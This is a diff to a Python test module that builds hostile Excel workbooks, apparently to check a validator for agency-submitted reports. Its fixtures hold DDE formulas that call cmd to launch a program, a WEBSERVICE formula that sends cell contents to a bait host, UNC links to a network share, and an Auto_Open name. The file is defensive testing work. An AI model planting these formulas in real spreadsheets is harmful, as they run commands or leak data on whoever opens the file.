@@ -69,6 +69,14 @@ def _parts() -> dict[str, bytes]:
     return parts_of(good())
 
 
+@cache
+def _wrong_parts() -> dict[str, bytes]:
+    """A workbook that does not add up, and so goes back to its agency."""
+    base = kit.report("suqian-2024")
+    first = next(term.cell for case in base.form.cases for term in case.left.inputs)
+    return parts_of(build_workbook(replace(base, values={**base.values, first: 987_654})))
+
+
 def unreadable(name: str, content: bytes, cause: str) -> Hostile:
     return Hostile(name, content, "unreadable", (cause,))
 
@@ -196,59 +204,65 @@ def climbing() -> Iterator[Hostile]:
 def riding_along() -> Iterator[Hostile]:
     """Sound workbooks with what no form has."""
     parts = _parts()
-    types = replaced(parts, "[Content_Types].xml", WORKBOOK_TYPE, MACRO_TYPE)
-    macros = related(
-        {**types, "xl/vbaProject.bin": b"\xcc\x61" * 500}, "xl/workbook.xml", "m1", "vbaProject", "vbaProject.bin"
-    )
-    yield carrying("宏.xlsm", macros, "macro-carried")
-    yield carrying("宏改名.xlsx", macros, "macro-carried")
+    yield carrying("宏.xlsm", _with_macros(parts), "macro-carried")
+    yield carrying("宏改名.xlsx", _with_macros(parts), "macro-carried")
     yield carrying("旧式宏.xlsx", {**parts, "xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}, "macro-carried")
-    yield carrying("自动运行.xlsx", _named("_xlnm.Auto_Open", "二!$A$1"), "macro-carried")
-    yield carrying(
-        "外部链接.xlsx", _linked('<externalBook r:id="r1"/>', "file:///\\\\10.0.0.9\\share\\x.xlsx"), "link-carried"
-    )
+    yield carrying("自动运行.xlsx", _named(parts, "_xlnm.Auto_Open", "二!$A$1"), "macro-carried")
     dde = '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A1"/></ddeItems></ddeLink>'
-    yield carrying("DDE链接.xlsx", _linked(dde), "dde-carried")
-    yield carrying("DDE公式.xlsx", _with_formula("cmd|'/C calc'!A0"), "dde-carried", "outside-form")
-    yield carrying("取网页.xlsx", _with_formula(f'WEBSERVICE("{BAIT}/?"&amp;A1)'), "link-carried", "outside-form")
-    yield carrying("引用外部.xlsx", _with_formula("[1]表!A1"), "link-carried", "outside-form")
+    book, share = '<externalBook r:id="r1"/>', "file:///\\\\10.0.0.9\\share\\x.xlsx"
+    yield carrying("外部链接.xlsx", _linked(parts, book, share), "link-carried")
+    yield carrying("DDE链接.xlsx", _linked(parts, dde), "dde-carried")
+    run, ask = "cmd|'/C calc'!A0", f'WEBSERVICE("{BAIT}/?"&amp;A1)'
+    yield carrying("DDE公式.xlsx", _with_formula(parts, run), "dde-carried", "outside-form")
+    yield carrying("取网页.xlsx", _with_formula(parts, ask), "link-carried", "outside-form")
+    yield carrying("引用外部.xlsx", _with_formula(parts, "[1]表!A1"), "link-carried", "outside-form")
     yield carrying(
         "嵌入对象.xlsx", {**parts, "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 9}, "object-carried"
     )
     yield carrying("控件.xlsx", {**parts, "xl/activeX/activeX1.bin": b"x" * 99}, "object-carried")
     yield carrying("查询.xlsx", {**parts, "xl/connections.xml": b"<connections/>"}, "query-carried")
-    yield carrying("外部名称.xlsx", _named("甲", "[1]表!$A$1"), "name-outside")
-    yield carrying("网络名称.xlsx", _named("乙", "'\\\\10.0.0.9\\share\\[x.xlsx]表'!$A$1"), "name-outside")
+    yield carrying("外部名称.xlsx", _named(parts, "甲", "[1]表!$A$1"), "name-outside")
+    yield carrying("网络名称.xlsx", _named(parts, "乙", "'\\\\10.0.0.9\\share\\[x.xlsx]表'!$A$1"), "name-outside")
     outside = related(parts, SHEET, "r9", "image", f"{BAIT}/x.png", outside=True)
     yield carrying("网上图片.xlsx", outside, "link-carried")
     yield carrying("隐藏表.xlsx", _with_sheet("hidden"), "sheet-hidden")
     yield carrying("深藏表.xlsx", _with_sheet("veryHidden"), "sheet-hidden")
+    wrong = _with_macros(_linked(_with_formula(_wrong_parts(), run), dde))
+    yield Hostile("有误带宏.xlsm", packed(wrong), "failed", ("macro-carried", "dde-carried"))
+    wrong = _named(_linked(_with_formula(_wrong_parts(), ask), book, share), "甲", "[1]表!$A$1")
+    yield Hostile("有误带链接.xlsx", packed(wrong), "failed", ("link-carried", "name-outside"))
 
 
-def _named(name: str, text: str) -> dict[str, bytes]:
-    """A workbook with one more defined name."""
-    new = f'<definedName name="{name}">{text}</definedName>'.encode()
-    parts = _parts()
+def _with_macros(parts: dict[str, bytes]) -> dict[str, bytes]:
+    types = replaced(parts, "[Content_Types].xml", WORKBOOK_TYPE, MACRO_TYPE)
+    macros = {**types, "xl/vbaProject.bin": b"\xcc\x61" * 500}
+    return related(macros, "xl/workbook.xml", "m1", "vbaProject", "vbaProject.bin")
+
+
+def _named(parts: dict[str, bytes], name: str, text: str, times: int = 1) -> dict[str, bytes]:
+    """A workbook with more defined names; from the second on, a number stands behind them."""
+    numbers = ("", *map(str, range(2, times + 1)))
+    new = "".join(f'<definedName name="{name}{number}">{text}</definedName>' for number in numbers).encode()
     if b"<definedNames>" in parts["xl/workbook.xml"]:
         return replaced(parts, "xl/workbook.xml", b"<definedNames>", b"<definedNames>" + new)
     return replaced(parts, "xl/workbook.xml", b"</sheets>", b"</sheets><definedNames>" + new + b"</definedNames>")
 
 
-def _linked(inside: str, target: str = "") -> dict[str, bytes]:
+def _linked(parts: dict[str, bytes], inside: str, target: str = "") -> dict[str, bytes]:
     """A workbook with a link to another file or program."""
     space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
     space += ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
     part = "xl/externalLinks/externalLink1.xml"
-    parts = {**_parts(), part: f"<externalLink {space}>{inside}</externalLink>".encode()}
+    parts = {**parts, part: f"<externalLink {space}>{inside}</externalLink>".encode()}
     if target:
         parts = related(parts, part, "r1", "externalLinkPath", target, outside=True)
     return related(parts, "xl/workbook.xml", "l1", "externalLink", "externalLinks/externalLink1.xml")
 
 
-def _with_formula(formula: str) -> dict[str, bytes]:
+def _with_formula(parts: dict[str, bytes], formula: str) -> dict[str, bytes]:
     """A workbook with a formula in a cell beside the table."""
     cell = f'<row r="60"><c r="L60"><f>{formula}</f><v>0</v></c></row></sheetData>'
-    return replaced(_parts(), SHEET, b"</sheetData>", cell.encode())
+    return replaced(parts, SHEET, b"</sheetData>", cell.encode())
 
 
 def _with_sheet(state: str) -> dict[str, bytes]:
@@ -256,9 +270,8 @@ def _with_sheet(state: str) -> dict[str, bytes]:
     sheet = f'<sheet name="暗" sheetId="99" state="{state}" r:id="x99"/></sheets>'.encode()
     parts = replaced(_parts(), "xl/workbook.xml", b"</sheets>", sheet)
     space = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
-    return related(
-        {**parts, "xl/worksheets/sheet99.xml": space}, "xl/workbook.xml", "x99", "worksheet", "worksheets/sheet99.xml"
-    )
+    parts = {**parts, "xl/worksheets/sheet99.xml": space}
+    return related(parts, "xl/workbook.xml", "x99", "worksheet", "worksheets/sheet99.xml")
 
 
 def no_form() -> Iterator[Hostile]:
@@ -289,19 +302,11 @@ def strange_sheets() -> Iterator[Hostile]:
     yield unreadable("层层嵌套.xlsx", packed({**_parts(), "xl/workbook.xml": deep}), "damaged")
     rows = b"".join(b'<row r="%d"><c r="A%d"><f>A1</f></c></row>' % (n, n) for n in range(50, 20_000))
     yield Hostile("两万公式.xlsx", packed(replaced(_parts(), SHEET, b"</sheetData>", rows + b"</sheetData>")), "passed")
-    names = b"".join(b'<definedName name="n%d">A1</definedName>' % n for n in range(60_000))
-    yield Hostile("六万名称.xlsx", packed(_named_raw(names)), "passed")
+    yield Hostile("六万名称.xlsx", packed(_named(_parts(), "n", "A1", 60_000)), "passed")
     merged = b"".join(b'<mergeCell ref="L%d:M%d"/>' % (n, n) for n in range(60, 60_000))
     yield Hostile(
         "六万合并.xlsx", packed(replaced(_parts(), SHEET, b"</mergeCells>", merged + b"</mergeCells>")), "passed"
     )
-
-
-def _named_raw(names: bytes) -> dict[str, bytes]:
-    parts = _parts()
-    if b"<definedNames>" in parts["xl/workbook.xml"]:
-        return replaced(parts, "xl/workbook.xml", b"<definedNames>", b"<definedNames>" + names)
-    return replaced(parts, "xl/workbook.xml", b"</sheets>", b"</sheets><definedNames>" + names + b"</definedNames>")
 
 
 def strange_values() -> Iterator[Hostile]:
